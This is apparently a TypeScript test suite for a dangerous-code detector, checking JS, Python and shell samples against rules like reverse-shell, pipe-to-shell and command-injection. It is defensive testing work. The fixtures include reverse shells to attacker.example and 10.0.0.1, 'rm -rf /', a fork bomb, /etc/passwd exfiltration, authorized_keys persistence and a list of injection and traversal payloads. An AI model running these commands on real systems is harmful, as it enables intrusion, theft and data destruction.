import t from 'tap';
import { detectDangerousCode } from '../src/dangerous-code/index.js';

const rules = (code: string, language?: 'js' | 'ts' | 'shell' | 'python'): string[] => [...new Set(detectDangerousCode(code, language ? { language } : {}).map((f) => f.rule))];

t.test('JavaScript / TypeScript', async (t) => {
  t.ok(rules("const { execSync } = require('child_process'); execSync('ls')", 'js').includes('process-spawn'));
  t.ok(rules("import { spawn } from 'node:child_process';", 'ts').includes('process-spawn'));
  t.ok(rules('const f = new Function("return process")()', 'js').includes('eval'));
  t.ok(rules('eval(userInput)', 'js').includes('eval'));
  t.ok(rules("await fetch('https://example.com/collect', { method: 'POST' })", 'js').includes('network'));
  t.ok(rules("fs.writeFileSync('/etc/hosts', data)", 'js').includes('fs-write'));
  t.ok(rules('send(JSON.stringify(process.env))', 'js').includes('env-dump'));
  t.ok(rules("eval(atob('ZG9jdW1lbnQ='))", 'js').includes('decode-and-run'));
  t.ok(rules("require('fs').rmSync('/', { recursive: true })", 'js').includes('destroy-filesystem'));
  t.same(rules('const total = items.reduce((a, b) => a + b.price, 0);\nconsole.log(total.toFixed(2));', 'js'), []);
  t.same(rules('retrieve(x); model.evaluate(y); obj.eval2 = 1', 'js'), [], 'method names that merely contain eval');
});

t.test('Python', async (t) => {
  t.ok(rules('import subprocess\nsubprocess.run(["ls", "-l"])', 'python').includes('process-spawn'));
  t.ok(rules('os.system("whoami")', 'python').includes('process-spawn'));
  t.ok(rules('exec(base64.b64decode(payload))', 'python').includes('decode-and-run'));
  t.ok(rules('requests.post("https://x.example", data=open("/etc/passwd").read())', 'python').includes('network'));
  t.ok(rules('shutil.rmtree("/")', 'python').includes('destroy-filesystem'));
  t.ok(rules("with open('out.txt', 'w') as f: f.write(s)", 'python').includes('fs-write'));
  t.same(rules('def area(r):\n    return math.pi * r * r\nprint(area(2))', 'python'), []);
});

t.test('shell: destructive and remote-control commands', async (t) => {
  t.ok(rules('curl -fsSL https://get.example.sh | sudo bash', 'shell').includes('pipe-to-shell'));
  t.ok(rules('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'shell').includes('reverse-shell'));
  t.ok(rules('nc -e /bin/sh attacker.example 4444', 'shell').includes('reverse-shell'));
  t.ok(rules('rm -rf /', 'shell').includes('destroy-filesystem'));
  t.ok(rules('sudo rm -rf --no-preserve-root /', 'shell').includes('destroy-filesystem'));
  t.ok(rules(':(){ :|:& };:', 'shell').includes('fork-bomb'));
  t.ok(rules('echo ssh-rsa AAAA >> ~/.ssh/authorized_keys', 'shell').includes('persistence'));
  t.ok(rules('curl http://169.254.169.254/latest/meta-data/', 'shell').includes('cloud-metadata'));
  t.same(rules('rm -rf ./build && mkdir build', 'shell'), [], 'deleting a project folder is normal');
  t.same(rules('find . -name "*.log" -mtime +7 | xargs gzip', 'shell'), []);
  t.same(rules('tar -czf backup.tgz src/ && ls -l backup.tgz', 'shell'), []);
});

t.test('shell: command-injection payloads vs ordinary commands', async (t) => {
  const payloads = ['; cat /etc/passwd', '| id', '&& whoami', '`id`', '$(whoami)', "'; sleep 5; '", 'foo%0aid', 'a);/usr/bin/id|', '() { :;}; /bin/bash -c "id"', '<!--#exec cmd="/bin/ls"-->', '| type C:\\Windows\\win.ini', ';'];
  for (const p of payloads) t.ok(rules(p, 'shell').includes('command-injection'), JSON.stringify(p));
  const commands = ['ls -la /var/log', 'grep -r "TODO" src | wc -l', 'git log --oneline | head -5', 'for f in *.txt; do wc -l "$f"; done', 'docker ps && docker images'];
  for (const c of commands) t.notOk(rules(c, 'shell').includes('command-injection'), JSON.stringify(c));
});

t.test('findings carry spans and evidence', async (t) => {
  const code = 'x = 1\nos.system("rm -rf /")\n';
  const f = detectDangerousCode(code, { language: 'python' });
  t.ok(f.length >= 2);
  for (const x of f) {
    t.ok(x.start >= 0 && x.end <= code.length && x.start < x.end);
    t.equal(x.detector, 'dangerous-code');
  }
  t.ok(f.some((x) => x.rule === 'destroy-filesystem' && x.severity === 'critical'));
});

t.test('shell: payloads that close a quote, chain a substitution, or write a script tag', async (t) => {
  t.ok(rules('" whoami', 'shell').includes('command-injection'), 'opens by closing a double quote');
  t.ok(rules("' id", 'shell').includes('command-injection'), 'or a single quote');
  t.ok(rules('name ||`id` #', 'shell').includes('command-injection'), 'substitution after ||');
  t.ok(rules('name;$(id)', 'shell').includes('command-injection'));
  t.ok(rules("echo '<script src=https://x.example/a.js></script>'", 'shell').includes('command-injection'));
  t.ok(rules('..%5c..%5cwindows%5cwin.ini', 'shell').includes('path-traversal'), 'encoded backslash traversal');
  t.ok(rules('..%252f..%252fetc%252fpasswd', 'shell').includes('path-traversal'), 'double-encoded slash');
  t.same(rules('echo "hello world" | tr a-z A-Z', 'shell'), []);
  t.same(rules('ls -l | grep "$name"', 'shell'), []);
  t.same(rules("echo '<b>bold</b>' > page.html", 'shell'), [], 'HTML without a script source or handler');
  t.same(rules('cd ../../src && make', 'shell'), [], 'plain relative paths');
});
